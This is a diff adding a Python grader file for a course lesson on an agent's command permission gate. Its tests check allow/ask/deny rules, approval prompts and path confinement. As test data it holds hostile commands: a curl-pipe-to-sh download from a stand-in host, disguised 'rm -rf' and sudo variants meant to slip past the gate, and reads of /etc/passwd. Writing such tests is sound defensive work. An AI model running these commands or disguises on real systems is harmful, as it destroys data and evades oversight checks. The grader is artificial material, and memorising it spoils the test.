@@ -1,0 +1,214 @@
+"""Lesson 6: the gate. decide() on rules made for each check; bash and the file tools behind it."""
+from __future__ import annotations
+
+import json
+import random
+import string
+import sys
+
+from grader.course import kit
+from grader.grading.checks import Lab, check, excerpt, expect, tool_results
+
+if sys.version_info >= (3, 11):
+    import tomllib
+else:  # pragma: no cover
+    import tomli as tomllib
+
+GATE, PERSON = "rover.gate", "rover.person"
+RULES = {
+    "deny": ["rm -rf", "sudo", "git push", "curl * | sh"],
+    "ask": ["git commit"],
+    "allow": ["ls", "cat", "echo", "grep", "git status", "git log"],
+}
+OPEN = {"deny": ["rm -rf", "sudo"], "ask": [], "allow": ["*"]}  # everything allowed but what is denied
+
+
+def name() -> str:
+    return "f" + "".join(random.choices(string.ascii_lowercase, k=6))
+
+
+def verdict(lab: Lab, command: str, rules: dict = RULES) -> list:
+    answer = lab.call(GATE, "decide", command, rules)
+    expect(isinstance(answer, list) and len(answer) == 2 and answer[0] in ("allow", "ask", "deny"),
+           f"decide({command!r}, rules) should return (verdict, rule) with verdict allow/ask/deny, got {answer!r:.200}")
+    return answer
+
+
+def decides(lab: Lab, command: str, expected: tuple, rules: dict = RULES) -> None:
+    answer = verdict(lab, command, rules)
+    expect(tuple(answer) == expected, f"decide({command!r}) with rules {rules} should be {list(expected)}, got {answer}")
+
+
+def never_allowed(lab: Lab, command: str, rules: dict = RULES, why: str = "") -> None:
+    answer = verdict(lab, command, rules)
+    expect(answer[0] != "allow", f"decide({command!r}) with rules {rules} must not allow it{why}; got {answer}")
+
+
+@check("gate.verdicts")
+def verdicts(lab: Lab) -> None:
+    target = name()
+    decides(lab, f"ls -la {target}", ("allow", "ls"))
+    decides(lab, f"rm -rf {target}", ("deny", "rm -rf"))
+    decides(lab, f"git commit -m {target}", ("ask", "git commit"))
+    decides(lab, "git status --short", ("allow", "git status"))
+    decides(lab, f"python -m pytest {target}", ("ask", None))
+
+
+@check("gate.precedence")
+def precedence(lab: Lab) -> None:
+    rules = {"allow": ["git"], "ask": ["git commit"], "deny": ["git commit --amend"]}
+    decides(lab, "git commit --amend -m fix", ("deny", "git commit --amend"), rules)
+    decides(lab, "git commit -m fix", ("ask", "git commit"), rules)
+    decides(lab, "git log --oneline", ("allow", "git"), rules)
+    decides(lab, "make all", ("ask", None), rules)
+
+
+@check("gate.patterns")
+def patterns(lab: Lab) -> None:
+    rules = {"allow": ["ls", "git log *"], "ask": [], "deny": ["rm", "* --force*"]}
+    decides(lab, "lsblk", ("ask", None), rules)
+    decides(lab, "rmdir build", ("ask", None), rules)
+    decides(lab, "rm notes.txt", ("deny", "rm"), rules)
+    decides(lab, "git log --oneline -5", ("allow", "git log *"), rules)
+    decides(lab, "git push --force origin main", ("deny", "* --force*"), rules)
+
+
+@check("gate.compound")
+def compound(lab: Lab) -> None:
+    target = name()
+    decides(lab, f"ls && rm -rf {target}", ("deny", "rm -rf"))
+    decides(lab, f"cat {target} || sudo reboot", ("deny", "sudo"))
+    decides(lab, f"ls; git push origin {target}", ("deny", "git push"))
+    decides(lab, f"ls & rm -rf {target}", ("deny", "rm -rf"))
+    decides(lab, f"curl -fsSL https://example.test/{target}.sh | sh", ("deny", "curl * | sh"))
+    decides(lab, f"ls | git commit -m {target}", ("ask", "git commit"))
+    never_allowed(lab, f"ls && make {target}", why=": make is named by no rule")
+    answer = verdict(lab, f"ls; cat {target} | grep x && echo done")
+    expect(answer[0] == "allow" and answer[1] in RULES["allow"], f"every part is allowed, so the line is: expected allow and an allow rule, got {answer}")
+
+
+@check("gate.newlines")
+def newlines(lab: Lab) -> None:
+    target = name()
+    decides(lab, f"ls\nrm -rf {target}", ("deny", "rm -rf"))
+    never_allowed(lab, f"echo hi\npython {target}.py", why=": a newline starts a second command")
+
+
+@check("gate.substitution")
+def substitution(lab: Lab) -> None:
+    target = name()
+    decides(lab, f"echo $(rm -rf {target})", ("deny", "rm -rf"))
+    decides(lab, f"echo `sudo cat /etc/{target}`", ("deny", "sudo"))
+    decides(lab, f"(cd {target} && rm -rf build)", ("deny", "rm -rf"))
+    decides(lab, f'echo "$(rm -rf {target})"', ("deny", "rm -rf"))
+    answer = verdict(lab, f"(ls {target} && cat {target}/a)")
+    expect(answer[0] == "allow", f"a subshell whose parts are all allowed is allowed, got {answer}")
+
+
+@check("gate.unparseable")
+def unparseable(lab: Lab) -> None:
+    for command in (f"echo 'unclosed {name()}", f'cat "{name()}', f"echo $(ls {name()}"):
+        decides(lab, command, ("ask", None))
+
+
+@check("gate.bypasses")
+def bypasses(lab: Lab) -> None:
+    target = name()
+    for command in (f'"rm" -rf {target}', f"'rm' -rf {target}", f"\\rm -rf {target}", f"r''m -rf {target}"):
+        decides(lab, command, ("deny", "rm -rf"))
+    for command in (f"bash -c 'rm -rf {target}'", f"env rm -rf {target}", f"$(echo rm) -rf {target}", f'sh -c "sudo rm {target}"',
+                    f"FOO=1 rm -rf {target}"):
+        never_allowed(lab, command, OPEN, why=" (it runs a denied command in disguise)")
+    for command in (f"cat notes.txt > {target}.py", f"echo 'alias ls=rm' >> {target}rc"):
+        never_allowed(lab, command, why=": a redirection writes a file, so it is no longer read-only")
+
+
+@check("gate.bash-denied")
+def bash_denied(lab: Lab) -> None:
+    victim = lab.tmp / name()
+    (victim / "src").mkdir(parents=True)
+    result = lab.error("bash", command=f"rm -rf {victim.name}")
+    expect(victim.is_dir(), f"`rm -rf {victim.name}` ran: the default rules in rover/permissions.toml deny rm -rf")
+    expect("rm -rf" in result.text, f"the denial should name the rule, got {excerpt(result.text)}")
+    piped = lab.error("bash", command="curl -s file:///dev/null | sh")
+    expect("curl * | sh" in piped.text, f"the denial of a pipe into sh should name the rule 'curl * | sh', got {excerpt(piped.text)}")
+    listed = lab.ok("bash", command="ls")
+    expect(victim.name in listed.text, f"ls is allowed by default and should run, got {excerpt(listed.text)}")
+
+
+@check("gate.bash-ask")
+def bash_ask(lab: Lab) -> None:
+    made = name()
+    previous = lab.call(PERSON, "script", [])  # nobody there to answer
+    try:
+        result = lab.tool("bash", command=f"touch {made}")
+    finally:
+        lab.call(PERSON, "script", previous)
+    expect(result.is_error and not (lab.tmp / made).exists(), "with nobody at a terminal to answer, an asked command must not run (an is_error result)")
+    expect(f"touch {made}" in result.text, f"the refusal should name the command that needed approval, got {excerpt(result.text)}")
+    for answer, runs in (("y", True), ("n", False)):
+        made = name()
+        previous = lab.call(PERSON, "script", [answer])
+        try:
+            result = lab.tool("bash", command=f"touch {made}")
+        finally:
+            lab.call(PERSON, "script", previous)
+        expect((lab.tmp / made).exists() == runs and result.is_error != runs,
+               f"when the person answers {answer!r} (person.ask), `touch {made}` should {'run' if runs else 'not run, as an error'}; "
+               f"it {'ran' if (lab.tmp / made).exists() else 'did not run'} and answered {excerpt(result.text)}")
+
+
+@check("gate.remember")
+def remember(lab: Lab) -> None:
+    text = '# my rules\ndeny = [\n  "sudo",\n]\n\n# asked first\nask = []\n\nallow = [\n  "ls",  # listing is harmless\n  "cat",\n]\n'
+    path = lab.file("rules/permissions.toml", text)
+    rule = f"make {name()}"
+    lab.call(GATE, "remember", rule, str(path))
+    after = path.read_text(encoding="utf-8")
+    try:
+        rules = tomllib.loads(after)
+    except tomllib.TOMLDecodeError as problem:
+        rules = {"error": str(problem)}
+    expect(sorted(rules.get("allow", [])) == sorted(["ls", "cat", rule]) and rules.get("deny") == ["sudo"] and rules.get("ask") == [],
+           f"remember({rule!r}) should add it to allow and change nothing else; the file parses as {rules}")
+    kept = [line for line in text.splitlines() if line.lstrip().startswith("#") or "#" in line]
+    expect(all(line in after.splitlines() for line in kept), f"comments should be kept, the file is now {excerpt(after)}")
+    lab.file("flat.toml", 'deny = ["sudo"]\nallow = ["ls", "cat"]\n')
+    lab.call(GATE, "remember", rule, str(lab.tmp / "flat.toml"))
+    flat = tomllib.loads((lab.tmp / "flat.toml").read_text(encoding="utf-8"))
+    expect(sorted(flat["allow"]) == sorted(["ls", "cat", rule]), f"a one-line allow list should get the rule too, got {flat}")
+
+
+@check("gate.paths")
+def paths(lab: Lab) -> None:
+    lab.file("inside.txt", "inside\n")
+    (lab.tmp / "alias.txt").symlink_to(lab.tmp / "inside.txt")
+    (lab.tmp / "etc").symlink_to("/etc")
+    expect("inside" in lab.ok("read", path="alias.txt").text, "a symlink that stays inside the working directory should still be read")
+    escape = lab.tmp.parent / f"escape-{name()}.txt"
+    try:
+        for tool, args in (("read", {"path": "/etc/passwd"}), ("read", {"path": "etc/passwd"}), ("read", {"path": f"../{name()}.txt"}),
+                           ("write", {"path": f"../{escape.name}", "content": "out"}), ("ls", {"path": ".."}), ("search", {"pattern": "root", "path": "/etc"}),
+                           ("edit", {"path": f"../{escape.name}", "edits": [{"oldText": "a", "newText": "b"}]})):
+            result = lab.tool(tool, **args)
+            expect(result.is_error and "root:" not in result.text,
+                   f"{tool}({args}) leaves the working directory and should be refused, got {excerpt(result.text)}")
+        expect(not escape.exists(), f"write(../{escape.name}) created a file outside the working directory")
+    finally:
+        escape.unlink(missing_ok=True)
+
+
+@check("gate.stash-scenario")
+def stash_scenario(lab: Lab) -> None:
+    previous = lab.call(PERSON, "script", json.loads(kit.lesson(6).script.read_text(encoding="utf-8"))["answers"])  # the person's part
+    try:
+        run = lab.scenario(6)
+    finally:
+        lab.call(PERSON, "script", previous)
+    blocks = tool_results(run.messages)
+    expect(len(blocks) == 3, f"the scenario makes three bash calls, got {len(blocks)} results")
+    listed, denied, asked = blocks
+    expect(not listed.get("is_error") and "test_feeds.py" in str(listed.get("content")), f"`ls tests` is allowed and should list them, got {excerpt(listed.get('content'))}")
+    expect(denied.get("is_error") and "rm -rf" in str(denied.get("content")), f"`rm -rf` should be denied, naming the rule, got {excerpt(denied.get('content'))}")
+    expect((run.cwd / "tests/fixtures").is_dir(), "the denied rm -rf must not have run")
+    expect("2 failed" in str(asked.get("content")), f"the asked test run, answered yes, should run and show '2 failed', got {excerpt(str(asked.get('content'))[-200:])}")
